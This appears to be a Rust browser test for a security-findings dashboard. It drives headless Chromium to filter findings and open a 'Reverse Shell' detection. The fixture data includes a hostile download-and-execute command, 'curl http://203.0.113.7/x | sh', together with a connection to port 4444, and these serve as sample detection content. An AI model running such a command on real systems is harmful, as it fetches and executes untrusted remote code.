//! The web UI in a real browser: headless Chromium (Debian `chromium`) driven over WebDriver by
//! `chromedriver` (Debian `chromium-driver`). Loads the findings list, filters it through the form,
//! checks the list changed, opens a finding, reads its Summary and switches to the JSON tab.
//! Under CI the browser must be there; run by hand without it, the test says loudly that it skipped.

mod common;

use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use common::*;
use serde_json::{json, Value};

const CHROMEDRIVER: &str = "/usr/bin/chromedriver";
const CHROMIUM: &str = "/usr/bin/chromium";
const ELEMENT: &str = "element-6066-11e4-a52e-4f735466cecf";

/// A WebDriver session on a chromedriver this test started (stopped on drop).
struct Browser {
    driver: Child,
    base: String,
    session: String,
}

impl Browser {
    fn start() -> Option<Browser> {
        if !std::path::Path::new(CHROMEDRIVER).exists() || !std::path::Path::new(CHROMIUM).exists() {
            if std::env::var_os("CI").is_some() {
                panic!("CI is set but {CHROMEDRIVER} or {CHROMIUM} is missing (.ci/run installs chromium and chromium-driver)");
            }
            eprintln!("\n*** chromium / chromium-driver not installed: browser test SKIPPED ***\n");
            return None;
        }
        let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
        let driver = Command::new(CHROMEDRIVER)
            .arg(format!("--port={port}"))
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("start chromedriver");
        let base = format!("http://127.0.0.1:{port}");
        let deadline = Instant::now() + Duration::from_secs(30);
        while agent().get(&format!("{base}/status")).call().is_err() {
            assert!(Instant::now() < deadline, "chromedriver did not come up");
            std::thread::sleep(Duration::from_millis(100));
        }
        let caps = json!({ "capabilities": { "alwaysMatch": { "browserName": "chrome", "goog:chromeOptions": {
            "binary": CHROMIUM,
            // Root in a container: no sandbox; a small /dev/shm: use /tmp.
            "args": ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--window-size=1280,900"]
        }}}});
        let mut b = Browser { driver, base, session: String::new() };
        let resp = b.call("POST", "/session", Some(caps));
        b.session = resp["sessionId"].as_str().expect("a session").to_string();
        Some(b)
    }

    fn call(&self, method: &str, path: &str, body: Option<Value>) -> Value {
        let url = format!("{}{path}", self.base);
        let req = agent().request(method, &url);
        let (st, v) = read(match body {
            Some(b) => req.set("Content-Type", "application/json").send_string(&b.to_string()),
            None => req.call(),
        });
        assert_eq!(st, 200, "{method} {path}: {v}");
        v["value"].clone()
    }

    fn s(&self, path: &str) -> String {
        format!("/session/{}{path}", self.session)
    }

    fn goto(&self, url: &str) {
        self.call("POST", &self.s("/url"), Some(json!({ "url": url })));
    }

    fn url(&self) -> String {
        self.call("GET", &self.s("/url"), None).as_str().unwrap().to_string()
    }

    /// Waits (up to 10 s) for a click's navigation to land on a URL `want` accepts: chromedriver may
    /// answer a click that submits a form before the new page is there.
    fn wait_url(&self, want: impl Fn(&str) -> bool) -> String {
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
        loop {
            let url = self.url();
            if want(&url) || std::time::Instant::now() > deadline {
                return url;
            }
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
    }

    fn find_all(&self, css: &str) -> Vec<String> {
        let v =
            self.call("POST", &self.s("/elements"), Some(json!({ "using": "css selector", "value": css })));
        v.as_array().unwrap().iter().map(|e| e[ELEMENT].as_str().unwrap().to_string()).collect()
    }

    fn find(&self, css: &str) -> String {
        self.find_all(css).into_iter().next().unwrap_or_else(|| panic!("no element {css} on {}", self.url()))
    }

    fn click(&self, css: &str) {
        let e = self.find(css);
        self.call("POST", &self.s(&format!("/element/{e}/click")), Some(json!({})));
    }

    fn text(&self, css: &str) -> String {
        let e = self.find(css);
        self.call("GET", &self.s(&format!("/element/{e}/text")), None).as_str().unwrap().to_string()
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        if !self.session.is_empty() {
            let _ = agent().delete(&format!("{}/session/{}", self.base, self.session)).call();
        }
        let _ = self.driver.kill();
        let _ = self.driver.wait();
    }
}

#[test]
fn list_filter_and_open_a_finding() {
    let Some(browser) = Browser::start() else { return };
    let db = sqlite();
    let c = collector_on(db);
    let shell = finding("Reverse Shell", "CRITICAL", "api", "i-1", "2026-11-20T10:00:00Z");
    let others = [
        finding("Added Binary Executed", "LOW", "api", "i-1", "2026-11-20T10:01:00Z"),
        finding(
            "Execution: Program Run from Temporary Directory",
            "MEDIUM",
            "worker",
            "i-2",
            "2026-11-20T10:02:00Z",
        ),
        finding("Added Binary Executed", "LOW", "worker", "i-2", "2026-11-20T10:03:00Z"),
    ];
    let mut all = vec![shell.clone()];
    all.extend(others);
    let beat = heartbeat(Some("i-1"), "api", 60, false);
    assert_eq!(post_json(&c, &json!({ "findings": all, "heartbeat": beat }), None).0, 200);

    browser.goto(&c.url("/"));
    assert!(browser.url().ends_with("/findings"), "{}", browser.url());
    assert_eq!(browser.find_all("#findings a.finding").len(), 4);
    assert_eq!(browser.text("#total"), "4");

    // Filter through the form: severity CRITICAL (the first option after "any"), then submit.
    browser.click("#f-severity option:nth-child(2)");
    browser.click("#apply");
    let url = browser.wait_url(|u| u.contains("severity=CRITICAL"));
    assert!(url.contains("severity=CRITICAL"), "{url}");
    let rows = browser.find_all("#findings a.finding");
    assert_eq!(rows.len(), 1, "the filtered list");
    assert_eq!(browser.text("#total"), "1");
    assert_eq!(browser.text("#findings a.finding"), "Reverse Shell");

    // Open it: the Summary tab first.
    browser.click("#findings a.finding");
    let id = shell["findingId"].as_str().unwrap();
    let url = browser.wait_url(|u| u.ends_with(&format!("/findings/{id}")));
    assert!(url.ends_with(&format!("/findings/{id}")), "{url}");
    let summary = browser.text("#summary");
    assert!(
        summary.contains("Reverse Shell: /bin/sh -c 'curl http://203.0.113.7/x | sh' in api"),
        "{summary}"
    );
    assert!(browser.text("#process-tree").contains("/usr/bin/python3.11: python3 app.py"));
    assert!(browser.text("#connections").contains("203.0.113.7:4444"));
    assert!(browser.text("#script").contains("uname -a"));
    assert!(browser.text("#virustotal").starts_with("https://www.virustotal.com/gui/file/aaaa"));
    assert!(browser.find_all("#json-body").is_empty());

    // Switch to the JSON tab: the finding as received.
    browser.click("#tab-json");
    let url = browser.wait_url(|u| u.ends_with("?tab=json"));
    assert!(url.ends_with("?tab=json"), "{url}");
    let shown: Value = serde_json::from_str(&browser.text("#json-body")).expect("the JSON tab shows JSON");
    assert_eq!(shown, shell);
    assert!(browser.find_all("#summary").is_empty());

    // The instances page: the one heartbeat sent, live.
    browser.click("header a[href='/instances']");
    browser.wait_url(|u| u.ends_with("/instances"));
    assert_eq!(browser.find_all("#instances tr.instance-live").len(), 1);
    assert!(browser.text("#instances tr.instance-live").contains("i-1"));
}
